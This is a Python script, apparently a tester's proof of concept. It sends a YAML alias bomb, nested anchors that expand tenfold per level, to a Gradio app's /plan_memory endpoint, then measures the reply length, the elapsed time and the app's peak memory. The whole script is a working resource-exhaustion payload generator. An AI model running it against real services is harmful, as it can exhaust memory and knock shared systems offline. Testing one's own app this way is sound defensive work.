"""A YAML alias bomb in one knob value: ~1 KB of text that yaml.safe_load accepts as a list of 10**LEVELS
shared references, which the knob's refusal message then writes out whole (repr): time and memory grow ten
times per level. Sent to /plan_memory (not scheduled, any number at once); prints the reply's length, the time
and the app's peak RSS seen.

Usage: python breakit/yaml_bomb.py BASE APP_PID LEVELS   (8 = ~360 MB string; do not go past 8 on a shared box)
"""
import sys
import threading
import time

import psutil
from gradio_client import Client

BASE, PID, LEVELS = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])


def bomb(levels: int) -> str:
    lines = ["", "- &a0", *["  - 1"] * 10]
    for i in range(1, levels):
        lines += [f"- &a{i}", *[f"  - *a{i - 1}"] * 10]
    return "\n".join(lines)


proc = psutil.Process(PID)
peak = [proc.memory_info().rss]
done = threading.Event()


def watch():
    while not done.is_set():
        peak[0] = max(peak[0], proc.memory_info().rss)
        time.sleep(0.1)


threading.Thread(target=watch, daemon=True).start()
text = f"sink:window_length={bomb(LEVELS)}"
before = proc.memory_info().rss
started = time.monotonic()
try:
    out = str(Client(BASE, verbose=False).predict(model="bundled", contexts="1k", strategies=text,
                                                   api_name="/plan_memory"))
except Exception as err:  # noqa: BLE001
    out = f"EXC {type(err).__name__}: {err}"
done.set()
print(f"input {len(text)} chars; reply {len(out)} chars in {time.monotonic() - started:.1f}s; app rss "
      f"{before / 2**20:.0f} -> peak {peak[0] / 2**20:.0f} MiB; reply starts {out[:120]!r}")
